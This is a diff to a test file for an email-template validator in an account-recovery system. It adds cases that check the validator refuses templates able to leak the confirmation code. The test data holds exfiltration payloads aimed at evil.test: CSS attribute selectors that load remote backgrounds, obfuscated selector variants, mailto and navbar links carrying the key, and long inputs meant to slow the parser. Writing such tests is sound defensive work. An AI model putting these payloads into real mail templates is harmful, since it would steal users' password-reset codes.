@@ -14,7 +14,7 @@ describe('a template that is saved', () => {
 
   it('leads with a key where WSO2’s templates do: by the whole link, or below the deployment', async () => {
     const wso2 = 'https://id.example.com/accountrecoveryendpoint/confirmrecovery.do?confirmation={{confirmation-code}}&amp;userstoredomain={{userstore-domain}}&amp;username={{url:user-name}}&amp;tenantdomain={{tenant-domain}}&amp;callback={{callback}}';
-    const body = `<p><a href="${wso2}" target="_blank">Reset</a> or copy ${wso2}</p><p>Code:<b>{{confirmation-code}}</b>. (<a href="{{reset-link}}">{{reset-link}}</a>), [{{organization-name}}] <a href="https://www.example.org/?u={{url:user-name}}">us</a></p><!-- by hand -->`;
+    const body = `<style>a[href^="tel"], a[href^=https://], a[x-apple-data-detectors], table[class=full], div[style*="margin: 16px 0"] { color: red }</style><p><a href="${wso2}" target="_blank">Reset</a> or copy ${wso2}</p><p>Code:<b>{{confirmation-code}}</b>. (<a href="{{reset-link}}">{{reset-link}}</a>), [{{organization-name}}] <a href="https://www.example.org/?u={{url:user-name}}">us</a></p><!-- by hand -->`;
     expect((await compiled(body, { subject: 'Code: {{confirmation-code}}' })).html).toBe(body);
     expect((await compiled(mjml(`<a href="${wso2}">x</a>`).replace('<mj-text>', '<mj-button href="{{reset-link}}">Reset</mj-button><mj-text>'))).html).toContain('href="{{reset-link}}"');
     const plain = 'Use {{confirmation-code}}, or\nhttps://id.example.com/myaccount/reset#key={{confirmation-code}}.';
@@ -97,6 +97,10 @@ describe('a template that is saved', () => {
     ['a link that learns the key by another’s name', '<a href="https://id.example.com@evil.test/{{confirmation-code}}">x</a>', /would learn the key/],
     ['a mail that takes the key along', '<a href="mailto:eve@evil.test?body={{confirmation-code}}">x</a>', /would learn the key/],
     ['a menu that takes the key along', mjml('x').replace('<mj-text>', '<mj-navbar base-url="https://evil.test/"><mj-navbar-link href="#{{confirmation-code}}">x</mj-navbar-link></mj-navbar><mj-text>'), /would learn the key/],
+    ['a style that goes by the key of a link', '<style>a[href*="#key=a"] { background: url(https://evil.test/a) }</style><p>x</p>', /^body, line 1, column 8: "\[href\*="#key=a"" has no place in a mail's style/],
+    ...['a[ *|HREF/* */^="https://id.example.com/#key=a"]', 'a[href/*]*/$="a"]', 'a[/*]*/href$="a"]', 'a[href/*[*/$="a"]', 'a[href$="a"', 'a[href^="https"][href$="a"]', 'a[href^="https://id"]'].map((selector): [string, string, RegExp] => [`such a style that is written as ${selector}`, `<style>${selector} { color: red }</style><p>x</p>`, /has no place in a mail's style/]),
+    ['such a style in MJML', mjml('x', '<mj-style>a[href$="a"] { background: url(https://evil.test/a) }</mj-style>'), /has no place in a mail's style/],
+    ['a key where a style can go by it', '<p title="{{confirmation-code}}">x</p>', /^body, line 1, column 4: the key has no place in title/],
     ['words that become a link with the key', '<p>https://evil.test/?k={{confirmation-code}}</p>', /^body, as text, line 1, column 1: expected an address below/],
     ['words that become such a link once they are read', '<p>https&#58;&#47;&#47;evil&#46;test&#47;<b>{{confirmation-code}}</b></p>', /^body, as text/],
     ['words that are hidden and are not', '<p style="display:none;display:block">https://evil.test/{{confirmation-code}}</p>', /^body, as text/],
@@ -147,7 +151,7 @@ describe('a template that is saved', () => {
   it('takes no longer over what is written to be slow', async () => {
     const [blanks, fonts] = [' '.repeat(60_000), `<style>${'@import "a"'.repeat(5_000)}</style>`];
     for (const hostile of [`{{${blanks}`, `{{a${blanks}b}}`, `<style>@import url(${blanks}</style>`, fonts]) expect(typeof (await refusal(hostile))).toBe('string');
-    for (const hostile of ['{{account.recovery.endpoint-url}}/confirmx.do?'.repeat(1_200), '<'.repeat(60_000), '<p '.repeat(20_000), `<p ${'a '.repeat(30_000)}`, '{{'.repeat(30_000), '<style>'.repeat(8_000), '<!--'.repeat(15_000), `<p>${' '.repeat(59_000)}`, '&'.repeat(60_000)]) expect(typeof (await refusal(hostile))).toBe('string');
+    for (const hostile of ['{{account.recovery.endpoint-url}}/confirmx.do?'.repeat(1_200), '<'.repeat(60_000), '<p '.repeat(20_000), `<p ${'a '.repeat(30_000)}`, '{{'.repeat(30_000), '<style>'.repeat(8_000), '<!--'.repeat(15_000), `<p>${' '.repeat(59_000)}`, '&'.repeat(60_000), `<style>${'[href'.repeat(11_000)}</style>`]) expect(typeof (await refusal(hostile))).toBe('string');
   });
 
   it('has sections only so deep within each other as they can be filled', async () => {
